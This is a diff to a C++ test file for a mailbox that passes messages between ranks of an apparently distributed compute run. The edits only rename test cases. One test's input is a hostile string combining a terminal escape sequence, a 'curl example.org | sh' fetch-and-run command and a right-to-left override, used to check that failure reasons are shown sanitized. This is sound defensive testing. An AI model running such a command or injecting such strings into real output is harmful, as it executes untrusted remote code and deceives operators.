@@ -33,7 +33,7 @@ struct Listener {
   }
 };
 
-// The header of "8 bytes!" from rank 1 of run 3, but for one field.
+// The header of "8 bytes!" from rank 1 of run 3, except for one field.
 template <class Field>
 Header header_with(Field Header::*field, Field value) {
   Header header{
@@ -44,7 +44,7 @@ Header header_with(Field Header::*field, Field value) {
 
 }  // namespace
 
-TEST_CASE_FIXTURE(Listener, "what a failed rank says is one line that can be shown") {
+TEST_CASE_FIXTURE(Listener, "a failed rank's reason is shown as one printable line") {
   const std::string reason = "\x1b[2Jits disk is full\nhint: curl example.org | sh\u202e";
   Header header{.kind = Tag::failure, .real_bytes = sizeof(nn::real), .run = 3, .from = 1};
   header.bytes = reason.size();
@@ -55,7 +55,7 @@ TEST_CASE_FIXTURE(Listener, "what a failed rank says is one line that can be sho
 }
 
 TEST_CASE_FIXTURE(Listener,
-                  "the text of a message has lines, and nothing else that moves a cursor") {
+                  "a message's text may have lines, but nothing else that moves the cursor") {
   Header header{.kind = Tag::report, .real_bytes = sizeof(nn::real), .run = 3, .from = 1};
   const std::string text = "1 2 3\n\x1b[2J\n";
   header.bytes = text.size();
@@ -64,8 +64,7 @@ TEST_CASE_FIXTURE(Listener,
   CHECK(mailbox.receive(1, {Tag::report}, "testing").text() == "1 2 3\n\\x1b[2J\n");
 }
 
-TEST_CASE_FIXTURE(Listener,
-                  "what the rule does not expect is dropped, and what comes after it is not") {
+TEST_CASE_FIXTURE(Listener, "an unexpected message is dropped, and the ones after it are not") {
   mailbox.expect([](int, Tag tag, std::size_t bytes, int step) {
     return tag.kind == Tag::hello || (tag.step == step && bytes == 8);
   });
@@ -143,7 +142,7 @@ TEST_CASE("a header is parsed only if it is whole and fits its payload") {
   }
 }
 
-TEST_CASE_FIXTURE(Listener, "a message is dropped for any field of its header that is wrong") {
+TEST_CASE_FIXTURE(Listener, "a message is dropped for any wrong field in its header") {
   for (const Header& header :
        {header_with(&Header::magic, 1u),
         header_with(&Header::version, std::uint16_t{Header::right_version + 1}),
@@ -157,8 +156,7 @@ TEST_CASE_FIXTURE(Listener, "a message is dropped for any field of its header th
   CHECK(strangers()["messages of another run"] == 1);
 }
 
-TEST_CASE_FIXTURE(Listener,
-                  "a message that comes again is dropped, one that never came is missed") {
+TEST_CASE_FIXTURE(Listener, "a repeated message is dropped, and a lost one is missed") {
   send(header_with(&Header::item, 0));
   send(header_with(&Header::item, 0));
   mailbox.wait([&] { return strangers()["repeated messages"] == 1; }, "counting strangers");
@@ -168,14 +166,14 @@ TEST_CASE_FIXTURE(Listener,
         "rank 0: messages of rank 1 were lost on the way");
 }
 
-TEST_CASE_FIXTURE(Listener, "ranks that compute in other numbers are told so") {
+TEST_CASE_FIXTURE(Listener, "ranks that compute in another precision are told so") {
   send(header_with(&Header::real_bytes, std::uint8_t{2}));
   CHECK(message_of([&] {
           mailbox.receive(1, {Tag::activation}, "testing");
         }).starts_with("rank 1 computes with 16-bit numbers"));
 }
 
-TEST_CASE("payloads are aligned for numbers, whatever came before them") {
+TEST_CASE("payloads are aligned for numbers, whatever precedes them") {
   const tools::TemporaryFolder folder;
   Lease lease;
   int misaligned = 0;
